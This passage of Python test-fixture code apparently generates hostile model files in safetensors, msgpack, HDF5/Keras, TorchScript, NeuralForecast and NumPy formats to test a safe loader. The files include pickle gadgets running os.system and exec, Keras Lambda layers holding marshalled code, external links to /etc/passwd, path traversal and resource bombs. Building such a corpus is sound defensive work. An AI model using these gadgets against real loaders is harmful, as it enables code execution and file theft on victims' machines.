        st("header_not_object", "header is a JSON array", safetensors_file(b"[1,2,3]", b"")),
        st(
            "header_deep_nesting",
            "header nests 5000 arrays: a recursive parser's stack",
            safetensors_file(b'{"a":' + b"[" * 5000 + b"]" * 5000 + b"}", b""),
        ),
        st("unknown_dtype", "dtype 'Q7'", safetensors_file({"weight": st_entry(dtype="Q7")})),
        st("dtype_not_string", "dtype ['F32']: not even hashable", safetensors_file({"weight": st_entry(dtype=["F32"])})),
        st(
            "shape_offset_mismatch",
            "shape (2, 3) float32 needs 24 bytes; offsets give 16",
            safetensors_file({"weight": st_entry(offsets=(0, 16))}, WEIGHT_BYTES[:16]),
        ),
        st(
            "shape_overflow",
            "shape (2**64, 2**64): an element count past any integer type",
            safetensors_file({"weight": st_entry(shape=[2**64, 2**64])}),
        ),
        st(
            "duplicate_name",
            "'weight' twice: JSON parsers disagree which one wins",
            safetensors_file(
                b'{"weight":'
                + json.dumps(st_entry()).encode()
                + b',"weight":'
                + json.dumps(st_entry(offsets=(24, 48))).encode()
                + b"}",
                WEIGHT_BYTES * 2,
            ),
        ),
        st(
            "metadata_not_strings",
            "__metadata__ {'format': 1}: not string to string",
            safetensors_file({"__metadata__": {"format": 1}, "weight": st_entry()}),
        ),
    ]


# ---------------------------------------------------------------------------------------------
# Flax msgpack: maps of arrays, an array being extension type 1 holding msgpack (shape, dtype, bytes)
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Ext:
    """A msgpack extension object: type code and payload."""

    code: int
    payload: bytes


@dataclass(frozen=True)
class Raw:
    """Bytes written as they are: a forged msgpack header with nothing (or too little) after it."""

    data: bytes


MsgValue: TypeAlias = "None | bool | int | str | bytes | list[MsgValue] | tuple[MsgValue, ...] | dict[str, MsgValue] | Ext | Raw"


def msgpack(value: MsgValue) -> bytes:
    """Encode with the 32-bit forms throughout (valid msgpack; each header is easy to forge)."""
    if isinstance(value, Raw):
        return value.data
    if value is None:
        return b"\xc0"
    if isinstance(value, bool):
        return b"\xc3" if value else b"\xc2"
    if isinstance(value, int):
        return b"\xcf" + struct.pack(">Q", value) if value >= 0 else b"\xd3" + struct.pack(">q", value)
    if isinstance(value, str):
        return b"\xdb" + struct.pack(">I", len(value.encode())) + value.encode()
    if isinstance(value, bytes):
        return b"\xc6" + struct.pack(">I", len(value)) + value
    if isinstance(value, (list, tuple)):
        return b"\xdd" + struct.pack(">I", len(value)) + b"".join(msgpack(v) for v in value)
    if isinstance(value, dict):
        return b"\xdf" + struct.pack(">I", len(value)) + b"".join(msgpack(k) + msgpack(v) for k, v in value.items())
    if isinstance(value, Ext):
        return b"\xc9" + struct.pack(">Ib", len(value.payload), value.code) + value.payload
    raise TypeError(f"cannot encode {value!r}")


def ndarray(shape: Sequence[int], dtype: str = "float32", data: MsgValue = WEIGHT_BYTES) -> Ext:
    """``flax.serialization``'s array: extension type 1 around msgpack (shape, dtype name, buffer)."""
    return Ext(1, msgpack((list(shape), dtype, data)))


def msgpack_files() -> list[Hostile]:
    def mp(name: str, attack: str, tree: MsgValue) -> Hostile:
        return Hostile(f"msgpack_{name}.msgpack", "msgpack", attack + NO_CANARY, False, msgpack(tree))

    nested: MsgValue = WEIGHT_BYTES
    for _ in range(100):
        nested = ndarray((2**40, 2**40), "float32", nested)
    deep = Raw((b"\xdf\x00\x00\x00\x01" + msgpack("a")) * 2000 + msgpack({"kernel": ndarray(SIZE)}))  # {"a": {"a": ...
    return [
        mp(
            "ndarray_huge_shape",
            "array declaring shape (2**40, 2**40) float32 over 24 bytes",
            {"params": {"Dense_0": {"kernel": ndarray((2**40, 2**40))}}},
        ),
        mp(
            "ext_nested",
            "array whose buffer is an array, 100 deep, each declaring (2**40, 2**40)",
            {"params": {"Dense_0": {"kernel": nested}}},
        ),
        mp(
            "map_2pow32",
            "map header declaring 2**32 - 1 entries, one present",
            Raw(b"\xdf\xff\xff\xff\xff" + msgpack("params") + msgpack({})),
        ),
        mp("array_2pow32", "array header declaring 2**32 - 1 items, none present", {"params": Raw(b"\xdd\xff\xff\xff\xff")}),
        mp(
            "bin_4gib",
            "bin header declaring 4 GiB - 1 bytes, 24 present",
            {"params": {"w": Raw(b"\xc6\xff\xff\xff\xff" + WEIGHT_BYTES)}},
        ),
        mp("deep_nesting", "2000 nested maps: a recursive decoder's stack", {"params": deep}),
        mp("dtype_object", "array of dtype 'object': pointers, not data", {"params": {"kernel": ndarray((3,), "object")}}),
        mp("shape_negative", "array of shape (-1, 6): numpy would infer the rest", {"params": {"kernel": ndarray((-1, 6))}}),
    ]


# ---------------------------------------------------------------------------------------------
# HDF5 and .keras, written with h5py alone (no TensorFlow, no Keras)
# ---------------------------------------------------------------------------------------------

# marshal.dumps of the code of ``lambda x: (open('canary', 'w').close(), x)[1]`` (compiled as
# "<hostile>") under CPython 3.11: what Keras stores for a Lambda layer (base64 of marshalled code),
# kept as a constant so the corpus is byte-identical whichever Python version regenerates it.
LAMBDA_CODE_MARSHAL = bytes.fromhex(
    "e30100000000000000000000000400000003000000f35600000097007401000000000000000000006401"
    "6402a6020000ab020000000000000000a0010000000000000000000000000000000000000000a6000000"
    "ab0000000000000000007c006602640319000000000000000000530029044eda0663616e617279da0177"
    "e9010000002902da046f70656eda05636c6f73652901da0178730100000020fa093c686f7374696c653e"
    "fa083c6c616d6264613e720900000001000000732600000080008d3490089823d10b1ed40b1ed70b24d2"
    "0b24d10b26d40b26a801d00a2aa831d40a2d8000f300000000"
)
LAMBDA_CODE_B64 = base64.encodebytes(LAMBDA_CODE_MARSHAL).decode("ascii")  # as keras' func_dump writes it


def h5_bytes(write: Callable[[object], None]) -> bytes:
    """An HDF5 file written by h5py into memory (no timestamps: h5py does not track times by default)."""
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        write(f)
    return buf.getvalue()


def keras2_weights(dataset: Callable[[object, str], None]) -> Callable[[object], None]:
    """A Keras 2 weights file (``save_weights``) of one Dense layer whose kernel ``dataset`` makes."""

    def write(f: object) -> None:
        import numpy as np

        f.attrs["layer_names"] = [b"dense"]
        f.attrs["backend"] = "tensorflow"
        f.attrs["keras_version"] = "2.15.0"
        g = f.create_group("dense")
        g.attrs["weight_names"] = [b"dense/kernel:0", b"dense/bias:0"]
        dataset(g, "dense/kernel:0")
        g.create_dataset("dense/bias:0", data=np.zeros(SIZE[0], dtype="<f4"))

    return write


def huge_kernel(group: object, name: str) -> None:
    group.create_dataset(name, shape=(2**31, 2**31), dtype="<f4", chunks=(64, 64))  # never written: no bytes


def external_kernel(group: object, name: str) -> None:
    group.create_dataset(name, shape=SIZE, dtype="<f4", external=[("/etc/passwd", 0, 4 * NUMEL)])


def linked_kernel(group: object, name: str) -> None:
    import h5py

    group[name] = h5py.ExternalLink("/etc/passwd.h5", "/data")


def lambda_layer_keras2() -> dict[str, object]:
    return {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": [LAMBDA_CODE_B64, None, None],
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }


def keras2_full_model(f: object) -> None:
    """A Keras 2 ``model.save('m.h5')``: model_config with a Lambda layer, weights of a Dense layer."""
    import numpy as np

    config = {
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                {
                    "class_name": "InputLayer",
                    "config": {"batch_input_shape": [None, SIZE[1]], "dtype": "float32", "name": "input"},
                },
                lambda_layer_keras2(),
                {"class_name": "Dense", "config": {"name": "dense", "units": SIZE[0], "activation": "linear", "use_bias": True}},
            ],
        },
    }
    f.attrs["model_config"] = json.dumps(config)
    f.attrs["keras_version"] = "2.15.0"
    f.attrs["backend"] = "tensorflow"
    weights = f.create_group("model_weights")
    weights.attrs["layer_names"] = [b"lambda", b"dense"]
    weights.attrs["backend"] = "tensorflow"
    weights.attrs["keras_version"] = "2.15.0"
    weights.create_group("lambda").attrs["weight_names"] = np.array([], dtype="S1")
    dense = weights.create_group("dense")
    dense.attrs["weight_names"] = [b"dense/kernel:0", b"dense/bias:0"]
    dense.create_dataset("dense/kernel:0", data=np.arange(NUMEL, dtype="<f4").reshape(SIZE[::-1]))
    dense.create_dataset("dense/bias:0", data=np.zeros(SIZE[0], dtype="<f4"))


def keras3_archive(layers: list[dict[str, object]], weights: Callable[[object], None]) -> bytes:
    """A Keras 3 ``.keras`` zip: config.json, metadata.json, model.weights.h5 (fixed timestamps)."""
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": layers},
        "registered_name": None,
    }
    entries = [
        ("metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2024-01-01@00:00:00"}).encode()),
        ("config.json", json.dumps(config).encode()),
        ("model.weights.h5", h5_bytes(weights)),
    ]
    return stored_zip(entries)


def stored_zip(members: Sequence[tuple[str, bytes]]) -> bytes:
    """A zip of stored members under fixed timestamps: a .keras file's layout, and np.savez's."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=ZIP_DATE)
            info.create_system = 0
            zf.writestr(info, data)
    return buf.getvalue()


def dense3(units: int = SIZE[0]) -> dict[str, object]:
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "registered_name": None,
        "config": {"name": "dense", "units": units, "activation": "linear", "use_bias": True},
    }


def keras3_dense_weights(kernel: Callable[[object, str], None]) -> Callable[[object], None]:
    def write(f: object) -> None:
        import numpy as np

        kernel(f, "layers/dense/vars/0")
        f.create_dataset("layers/dense/vars/1", data=np.zeros(SIZE[0], dtype="<f4"))

    return write


def plain_kernel(group: object, name: str) -> None:
    import numpy as np

    group.create_dataset(name, data=np.arange(NUMEL, dtype="<f4").reshape(SIZE[::-1]))


def global_heap_loop(data: bytes) -> bytes:
    """The file with its global heap's free-space object (index 0) resized to 0 bytes.

    libhdf5 walks a collection object by object, stepping by a free-space object's size alone, so it
    never moves again: reading any variable-length string attribute hangs the process inside C.
    """
    out = bytearray(data)
    pos = out.index(b"GCOL\x01") + 16  # signature, version, reserved, collection size (8 bytes)
    while struct.unpack_from("<H", out, pos)[0] != 0:  # index, references, reserved, size (8 bytes)
        (size,) = struct.unpack_from("<Q", out, pos + 8)
        pos += 16 + size + (-size % 8)
    struct.pack_into("<Q", out, pos + 8, 0)
    return bytes(out)


def h5_files() -> list[Hostile]:
    """Needs h5py (the Keras extra); without it these files are not generated."""
    lambda3 = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "arguments": {},
            "function": {"class_name": "__lambda__", "config": {"code": LAMBDA_CODE_B64, "defaults": None, "closure": None}},
        },
    }
    return [
        Hostile(
            "h5_huge_shape.h5",
            "hdf5",
            "Keras 2 weights whose kernel declares shape (2**31, 2**31) and holds no bytes" + NO_CANARY,
            False,
            h5_bytes(keras2_weights(huge_kernel)),
        ),
        Hostile(
            "h5_external_storage.h5",
            "hdf5",
            "kernel stored in an external raw file: /etc/passwd" + NO_CANARY,
            False,
            h5_bytes(keras2_weights(external_kernel)),
        ),
        Hostile(
            "h5_external_link.h5",
            "hdf5",
            "kernel is an external link to /etc/passwd.h5" + NO_CANARY,
            False,
            h5_bytes(keras2_weights(linked_kernel)),
        ),
        Hostile(
            "h5_global_heap_loop.h5",
            "hdf5",
            "Keras 2 weights whose global heap free-space object has size 0: "
            "libhdf5 loops forever reading its string attributes" + NO_CANARY,
            False,
            global_heap_loop(h5_bytes(keras2_weights(plain_kernel))),
        ),
        Hostile(
            "h5_lambda_layer.h5",
            "hdf5",
            "Keras 2 full model whose Lambda layer is marshalled code that creates "
            "canary when a Keras loader rebuilds and calls it",
            False,
            h5_bytes(keras2_full_model),
            "inert",
        ),
        Hostile(
            "keras_lambda_layer.keras",
            "keras",
            "Keras 3 archive whose Lambda layer is marshalled code that creates "
            "canary when Keras loads it with safe_mode=False and calls it",
            False,
            keras3_archive([lambda3, dense3()], keras3_dense_weights(plain_kernel)),
            "inert",
        ),
        Hostile(
            "keras_external_storage.keras",
            "keras",
            "model.weights.h5 inside the archive keeps its kernel in /etc/passwd (external raw storage)" + NO_CANARY,
            False,
            keras3_archive([dense3()], keras3_dense_weights(external_kernel)),
        ),
        Hostile(
            "keras_huge_shape.keras",
            "keras",
            "model.weights.h5 kernel declares (2**31, 2**31) and holds no bytes" + NO_CANARY,
            False,
            keras3_archive([dense3()], keras3_dense_weights(huge_kernel)),
        ),
    ]


# ---------------------------------------------------------------------------------------------
# NeuralForecast save folders (1.7.1 to 3.2 layout): {alias}_{i}.ckpt plus pickles
# ---------------------------------------------------------------------------------------------


def nf_folder(
    base: TorchBase, alias_to_model: bytes | None = None, configuration: bytes | None = None, ckpt: bytes | None = None
) -> dict[str, bytes]:
    """``NeuralForecast.save``'s files for one MLP; any of them replaced."""
    benign_ckpt = zip_checkpoint(
        base, dump({"hyper_parameters": {"h": 12, "input_size": 24}, "state_dict": {"mlp.0.weight": tensor(ZIP.storage())}})
    )
    return {
        "MLP_0.ckpt": ckpt or benign_ckpt,
        "alias_to_model.pkl": alias_to_model or dump({"MLP": "mlp"}, 4),
        "configuration.pkl": configuration or dump({"h": 12, "freq": "ME", "_fitted": True}, 4),
    }


def neuralforecast_files(base: TorchBase) -> list[Hostile]:
    writer = call(glob("neuralforecast_plugins.hooks", "WriteCanary"), CANARY)
    return [
        Hostile(
            "nf_unknown_class",
            "neuralforecast",
            "configuration.pkl holds neuralforecast_plugins.hooks.WriteCanary"
            "('canary'): a global of a module that does not exist" + NO_CANARY,
            False,
            nf_folder(base, configuration=dump({"h": 12, "freq": "ME", "scalers_": {"y": writer}}, 4)),
        ),
        Hostile(
            "nf_os_system",
            "neuralforecast",
            "alias_to_model.pkl is os.system('touch canary')",
            True,
            nf_folder(base, alias_to_model=dump({"MLP": OS_SYSTEM}, 4)),
        ),
        Hostile(
            "nf_ckpt_os_system",
            "neuralforecast",
            "MLP_0.ckpt hides os.system(...) in its hyper_parameters",
            True,
            nf_folder(
                base,
                ckpt=zip_checkpoint(
                    base, dump({"hyper_parameters": {"loss": OS_SYSTEM}, "state_dict": {"mlp.0.weight": tensor(ZIP.storage())}})
                ),
            ),
        ),
    ]


# NeuralForecast 3.3+ folders (nf_format 2): the bundled fixture's MLP with one hyper-parameter replaced
NF3_FIXTURE = REPO / "fixtures" / "neuralforecast" / "3.3.0" / "folder"


def nf3_folder(edit: Mapping[str, object]) -> dict[str, bytes]:
    """The fixture's configuration and MLP_0.safetensors, whose hyper_parameters metadata gets `edit`."""
    data = (NF3_FIXTURE / "MLP_0.safetensors").read_bytes()
    (length,) = struct.unpack("<Q", data[:8])
    header = json.loads(data[8 : 8 + length])
    hparams = {**json.loads(header["__metadata__"]["hyper_parameters"]), **edit}
    header["__metadata__"]["hyper_parameters"] = json.dumps(hparams)
    text = json.dumps(header).encode()
    text += b" " * (-(8 + len(text)) % 8)
    files = {name: (NF3_FIXTURE / name).read_bytes() for name in ("configuration.json", "configuration.safetensors")}
    return {**files, "MLP_0.safetensors": struct.pack("<Q", len(text)) + text + data[8 + length :]}


def nf_config_value_files() -> list[Hostile]:
    """Well-formed configs whose values are hostile: each is corrupt (6), never exit 1 or an allocation."""
    cases = [
        ("nf_infinite_horizon", "h = Infinity: int() raised OverflowError", {"h": float("inf")}),
        ("nf_nan_series_count", "n_series = NaN where a count belongs", {"n_series": float("nan")}),
        (
            "nf_gib_per_element_dtype",
            "an inline array of dtype <U500000000 (2 GB per element, from 1 KB)",
            {"optimizer_kwargs": {"__nf__": "array", "dtype": "<U500000000", "shape": [1], "values": ["a"]}},
        ),
        (
            "nf_void_dtype",
            "an inline array of dtype |V1000000000",
            {"optimizer_kwargs": {"__nf__": "array", "dtype": "|V1000000000", "shape": [1], "values": [0]}},
        ),
        (
            "nf_datetime_past_int64",
            "a datetime64 value of 2**63 ticks",
            {"h": {"__nf__": "datetime64", "unit": "ns", "values": [2**63]}},
        ),
        ("nf_list_as_tag", "a value tag that is a list, not a name", {"h": {"__nf__": ["loss"]}}),
        (
            "nf_level_overflow",
            "an MQLoss level of 1e300 percent (a float32 overflow warning line)",
            {"loss": {"__nf__": "loss", "cls": "MQLoss", "args": {"level": [1e300]}}},
        ),
        ("nf_layer_count_1e9", "num_layers = 1e9: the shape check looped a billion times", {"num_layers": 1e9}),
    ]
    return [Hostile(name, "neuralforecast", attack + NO_CANARY, False, nf3_folder(edit)) for name, attack, edit in cases]


# ---------------------------------------------------------------------------------------------
# TorchScript archives (torch.jit.save): data.pkl of __torch__ module records, code/ as text
# ---------------------------------------------------------------------------------------------

TS_CLASS = "TinyNet"
TS_HEADER = f"""class {TS_CLASS}(Module):
  __parameters__ = ["weight", ]
  __buffers__ = []
  weight : Tensor
  training : bool
  _is_full_backward_hook : Optional[bool]
"""
TS_FORWARD = f"""  def forward(self: __torch__.{TS_CLASS},
    x: Tensor) -> Tensor:
    return torch.matmul(x, torch.t(self.weight))
"""
# torch.from_file(name, shared=True, size) opens `name` with O_CREAT: TorchScript code writes files.
TS_CREATE_CANARY = f'    _0 = torch.from_file("{CANARY}", True, 1)\n'
TS_FORWARD_PAYLOAD = f"""  def forward(self: __torch__.{TS_CLASS},
    x: Tensor) -> Tensor:
{TS_CREATE_CANARY}    return torch.add(torch.matmul(x, torch.t(self.weight)), torch.sum(_0))
"""
TS_SETSTATE_PAYLOAD = f"""  def __getstate__(self: __torch__.{TS_CLASS}) -> Tuple[Tensor, bool]:
    return (self.weight, self.training)
  def __setstate__(self: __torch__.{TS_CLASS},
    state: Tuple[Tensor, bool]) -> NoneType:
{TS_CREATE_CANARY}    self.weight = torch.add((state)[0], torch.sum(_0))
    self.training = (state)[1]
    return None
"""


def ts_module(**attrs: Value) -> Value:
    """A ``__torch__`` module record as torch.jit.save pickles it: NEWOBJ, then BUILD of its attributes."""
    state: dict[Value, Value] = {"training": True, "_is_full_backward_hook": None, "weight": tensor(ZIP.storage())}
    return build(newobj(glob("__torch__", TS_CLASS), ()), {**state, **attrs})


# torch.jit.load's own (C++) unpickler refuses a Python global; a reader unpickling the archive with pickle runs it.
PICKLE_ONLY = " (torch.jit.load refuses it; pickle with stand-ins for __torch__ classes runs it)"


def shared_module_bomb(p: Pickle, depth: int) -> None:
    """A module record whose attributes ``a`` and ``b`` are both the level below (memo slot 0), ``depth`` deep
    over one real module: a walk of the module tree visits 2**depth modules."""
    p.push(ts_module()).op(pickle.BINPUT, b"\x00")
    for _ in range(depth):
        level = build(newobj(glob("__torch__", TS_CLASS), ()), {"training": True, "a": recall(0), "b": recall(0)})
        p.op(pickle.POP).push(level).op(pickle.BINPUT, b"\x00")


def ts_archive(
    data_pkl: bytes,
    code: str = TS_HEADER + TS_FORWARD,
    constants: bytes | None = None,
    constant_storages: Sequence[tuple[str, bytes]] = (),
) -> bytes:
    """The records of torch.jit.save, in its order, stored uncompressed (torch deflates code/; either loads)."""
    return zip_archive(
        [
            ("data/0", WEIGHT_BYTES),
            ("data.pkl", data_pkl),
            ("code/__torch__.py", code.encode()),
            *constant_storages,
            ("constants.pkl", constants or dump(())),
            ("version", b"3\n"),
            ("byteorder", b"little"),
            (".data/serialization_id", SERIALIZATION_ID),
        ]
    )


def torchscript_files() -> list[Hostile]:
    def ts(name: str, attack: str, canary: bool, data: bytes, expect: str = "refused") -> Hostile:
        return Hostile(f"ts_{name}.pt", "torchscript", attack, canary, data, expect)

    constant = (tensor(persid(("storage", glob("torch", "FloatStorage"), "/etc/passwd", "cpu", NUMEL))),)
    return [
        ts(
            "setstate_from_file",
            "the module's __setstate__, which torch.jit.load runs, calls torch.from_file('canary', shared=True)",
            True,
            ts_archive(
                dump(build(newobj(glob("__torch__", TS_CLASS), ()), (tensor(ZIP.storage()), True))),
                TS_HEADER + TS_SETSTATE_PAYLOAD,
            ),
        ),
        ts(
            "forward_from_file",
            "forward() calls torch.from_file('canary', shared=True): the weights are data, the code is never run",
            True,
            ts_archive(dump(ts_module()), TS_HEADER + TS_FORWARD_PAYLOAD),
            "inert",
        ),
        ts(
            "data_os_system",
            "a module attribute in data.pkl is os.system('touch canary')" + PICKLE_ONLY,
            True,
            ts_archive(dump(ts_module(extra=OS_SYSTEM))),
        ),
        ts(
            "constants_exec",
            "constants.pkl holds builtins.exec of source that creates canary" + PICKLE_ONLY,
            True,
            ts_archive(dump(ts_module()), constants=dump((call(glob("builtins", "exec"), CANARY_SOURCE),))),
        ),
        ts(
            "typed_list_gadget",
            "torch.jit._pickle.build_intlist (allow-listed) of os.system('touch canary')" + PICKLE_ONLY,
            True,
            ts_archive(dump(ts_module(sizes=call(glob("torch.jit._pickle", "build_intlist"), OS_SYSTEM)))),
        ),
        ts(
            "torch_class_getattr",
            "builtins.getattr(GLOBAL __torch__.TinyNet, '__init__') then called: the __torch__ allowance reaches no attribute"
            + NO_CANARY,
            False,
            ts_archive(dump(ts_module(extra=call(attr(glob("__torch__", TS_CLASS), "__init__"))))),
        ),
        ts(
            "storage_dotdot",
            "the weight's storage key is '../../etc/passwd'" + NO_CANARY,
            False,
            ts_archive(
                dump(
                    build(
                        newobj(glob("__torch__", TS_CLASS), ()),
                        {"training": True, "weight": tensor(ZIP.storage(key="../../etc/passwd"))},
                    )
                )
            ),
        ),
        ts(
            "constants_storage_absolute",
            "a tensor in constants.pkl names storage '/etc/passwd'" + NO_CANARY,
            False,
            ts_archive(dump(ts_module()), constants=dump(constant), constant_storages=[("constants/0", WEIGHT_BYTES)]),
        ),
        ts(
            "shared_module_bomb",
            "module records sharing the level below under two names, 40 deep: 2**40 modules to walk" + NO_CANARY,
            False,
            ts_archive(dump(lambda p: shared_module_bomb(p, 40))),
        ),
        ts(
            "state_not_dict",
            "the module record's state is a list, and no __setstate__ in the code says what it means" + NO_CANARY,
            False,
            ts_archive(dump(build(newobj(glob("__torch__", TS_CLASS), ()), pylist((tensor(ZIP.storage()),))))),
        ),
    ]


# ---------------------------------------------------------------------------------------------
# NumPy: .npy (magic, header dict literal, data or a pickle), .npz (a zip of .npy), plain pickles
# ---------------------------------------------------------------------------------------------

NPY_MAGIC = b"\x93NUMPY"
# A shape whose element count, 4 * 2**64 + 6, wraps to 6 in int64 (and in int32 C arithmetic to 6 too):
# every dimension is a positive int32, so a reader that multiplies them in fixed width sees 24 bytes.
WRAP_SHAPE = (70, 88801, 11239, 1056175639)


def npy_header(descr: str, shape: tuple[int, ...], version: int = 1, length: int | None = None, extra: str = "") -> bytes:
    """Magic, version, header length, and the header dict literal (with `extra` keys) padded to 64
    bytes as np.save pads it."""
    text = f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': {shape!r}, {extra}}}".encode("latin1")
    fixed = 10 if version == 1 else 12
    text += b" " * (-(fixed + len(text) + 1) % 64) + b"\n"
    size = len(text) if length is None else length
    return NPY_MAGIC + bytes([version, 0]) + struct.pack("<H" if version == 1 else "<I", size) + text


def np_dtype(name: str) -> Emit:
    """``numpy.dtype(name, False, True)`` and BUILD of its state, as pickle writes a dtype."""
    order = "|" if name.startswith(("O", "b", "u1", "i1")) else "<"
    flags = 63 if name.startswith("O") else 0
    return build(call(glob("numpy", "dtype"), name, False, True), (3, order, None, None, None, -1, -1, flags))


def np_array(shape: Value, dtype: Value, data: Value) -> Emit:
    """``numpy.core.multiarray._reconstruct(ndarray, (0,), b'b')`` then BUILD (1, shape, dtype, False, data):
    the pickle of an ndarray. An object array's data is the list of its items."""
    empty = call(glob("numpy.core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), (0,), b"b")
    return build(empty, (1, shape, dtype, False, data))


def weight_array() -> Emit:
    return np_array(SIZE, np_dtype("f4"), WEIGHT_BYTES)


def pylist(items: Sequence[Value]) -> Emit:
    def emit(p: Pickle) -> None:
        p.op(pickle.MARK)
        for item in items:
            p.push(item)
        p.op(pickle.LIST)

    return emit


def objects(*items: Value) -> Emit:
    """A 0-d object array (one item) or a 1-d one: what np.save pickles for dtype=object."""
    return np_array(() if len(items) == 1 else (len(items),), np_dtype("O8"), pylist(items))


def self_containing(p: Pickle) -> None:
    """An object array whose one item is the array itself (memo slot 0): numpy builds it, and a reader that
    walks into the items of object arrays never comes back."""
    p.push(call(glob("numpy.core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), (0,), b"b"))
    p.op(pickle.BINPUT, b"\x00")
    p.push((1, (1,), np_dtype("O8"), False, pylist([recall(0)]))).op(pickle.BUILD)


def npy_objects(root: Value) -> bytes:
    """A .npy of dtype object: the header, then the pickle np.save writes (protocol 3)."""
    return npy_header("|O", ()) + dump(root, 3)


def numpy_files() -> list[Hostile]:
    weight_npy = npy_header("<f4", SIZE) + WEIGHT_BYTES
    exec_canary = call(glob("builtins", "exec"), CANARY_SOURCE)
    return [
        Hostile(
            "npy_object_os_system.npy",
            "npy",
            "dtype object: the pickle np.load(allow_pickle=True) runs holds os.system('touch canary')",
            True,
            npy_objects(objects(OS_SYSTEM)),
        ),
        Hostile(
            "npy_object_dict_gadget.npy",
            "npy",
            "a saved dict (0-d object array) of a real array and builtins.exec of source that creates canary",
            True,
            npy_objects(objects({"weight": weight_array(), "extra": exec_canary})),
        ),
        Hostile(
            "npy_object_cycle.npy",
            "npy",
            "dtype object: an array whose one item is itself" + NO_CANARY,
            False,
            npy_objects(self_containing),
        ),
        Hostile(
            "npy_shared_list_bomb.npy",
            "npy",
            "a saved dict of a real array and [x, x] nested 40 deep through the memo: 2**40 paths" + NO_CANARY,
            False,
            npy_objects(objects({"weight": weight_array(), "extra": lambda p: shared_list_bomb(p, 40)})),
        ),
        Hostile(
            "npy_shape_wraps_int64.npy",
            "npy",
            f"float32 shape {list(WRAP_SHAPE)}: 4 * 2**64 + 6 elements, 6 in int64, over 24 bytes" + NO_CANARY,
            False,
            npy_header("<f4", WRAP_SHAPE) + WEIGHT_BYTES,
        ),
        Hostile(
            "npy_shape_past_int64.npy",
            "npy",
            "shape (2**64 + 6,): a dimension no int64 holds" + NO_CANARY,
            False,
            npy_header("<f4", (2**64 + NUMEL,)) + WEIGHT_BYTES,
        ),
        Hostile(
            "npy_header_length_4gib.npy",
            "npy",
            "version 2 header length 2**32 - 1 in a file of a hundred bytes" + NO_CANARY,
            False,
            npy_header("<f4", SIZE, version=2, length=2**32 - 1) + WEIGHT_BYTES,
        ),
        Hostile(
            "npy_extra_header_key.npy",
            "npy",
            "a header with a fourth key, 'scale': 0.5, which numpy refuses (its meaning would be lost)" + NO_CANARY,
            False,
            npy_header("<f4", SIZE, extra="'scale': 0.5, ") + WEIGHT_BYTES,
        ),
        Hostile(
            "npz_object_member.npz",
            "npz",
            "a real float32 member, then an object-array member whose pickle is os.system('touch canary')",
            True,
            stored_zip([("weight.npy", weight_npy), ("extra.npy", npy_objects(objects(OS_SYSTEM)))]),
        ),
        Hostile(
            "np_dict_gadget.pkl",
            "numpy-pickle",
            "a dict of a real array (numpy.core.multiarray._reconstruct) and os.system('touch canary')",
            True,
            dump({"weight": weight_array(), "extra": OS_SYSTEM}, 3),
        ),
        Hostile(
            "np_object_items_gadget.pkl",
            "numpy-pickle",
            "an object array whose items are a real array and builtins.exec of source that creates canary",
            True,
            dump({"params": objects(weight_array(), exec_canary)}, 3),
        ),
        Hostile(
            "np_object_cycle.pkl",
            "numpy-pickle",
            "a dict holding an object array whose one item is the array itself" + NO_CANARY,
            False,
            dump({"params": self_containing}, 3),
        ),
        Hostile(
            "np_shared_list_bomb.pkl",
            "numpy-pickle",
            "a dict of a real array and [x, x] nested 40 deep through the memo: 2**40 paths for a tree walk" + NO_CANARY,
            False,
            dump({"weight": weight_array(), "extra": lambda p: shared_list_bomb(p, 40)}, 3),
        ),
        Hostile(
            "np_dtype_not_dtype.pkl",
            "numpy-pickle",
            "allow-listed _reconstruct whose BUILD state gives the string 'f4' where a numpy.dtype belongs" + NO_CANARY,
            False,
            dump({"weight": np_array(SIZE, "f4", WEIGHT_BYTES)}, 3),
        ),
        Hostile(
            "np_shape_past_intp.pkl",
            "numpy-pickle",
            "allow-listed _reconstruct of shape (2**63, 0) over no bytes: the count is 0, a dimension past intp" + NO_CANARY,
            False,
            dump({"weight": np_array((2**63, 0), np_dtype("f4"), b"")}, 3),
        ),
        Hostile(
            "np_shape_wraps_int64.pkl",
            "numpy-pickle",
            f"allow-listed _reconstruct of float32 shape {list(WRAP_SHAPE)} (6 elements in int64) over 24 bytes" + NO_CANARY,
            False,
            dump({"weight": np_array(WRAP_SHAPE, np_dtype("f4"), WEIGHT_BYTES)}, 3),
        ),
        Hostile(
            "np_reconstruct_not_ndarray.pkl",
            "numpy-pickle",
            "numpy.core.multiarray._reconstruct of builtins.object instead of numpy.ndarray" + NO_CANARY,
            False,
            dump({"weight": call(glob("numpy.core.multiarray", "_reconstruct"), glob("builtins", "object"), (0,), b"b")}, 3),
        ),
    ]


# ---------------------------------------------------------------------------------------------
# TFLite flatbuffers: tables (a signed offset back to a vtable of u16 field offsets), vectors
# (u32 count, then elements), strings; every reference an unsigned 32-bit offset forward
# ---------------------------------------------------------------------------------------------

TFLITE_IDENTIFIER = b"TFL3"
FULLY_CONNECTED, CONV_2D = 9, 3
TFLITE_FLOAT32, TFLITE_INT8 = 0, 9


@dataclass(frozen=True)
class Scalar:
    fmt: str  # struct format of one field: "B", "b", "I", "i", "Q", ...
    value: int


@dataclass(frozen=True)
class FbVector:
    items: tuple[object, ...] | bytes  # bytes: a [ubyte] vector; otherwise scalars (fmt) or tables/strings
    fmt: str = ""
    count: int | None = None  # a forged element count
    align: int = 4


@dataclass(frozen=True)
class FbTable:
    fields: tuple[object, ...]  # None (absent), Scalar, str, FbVector or FbTable, by field index
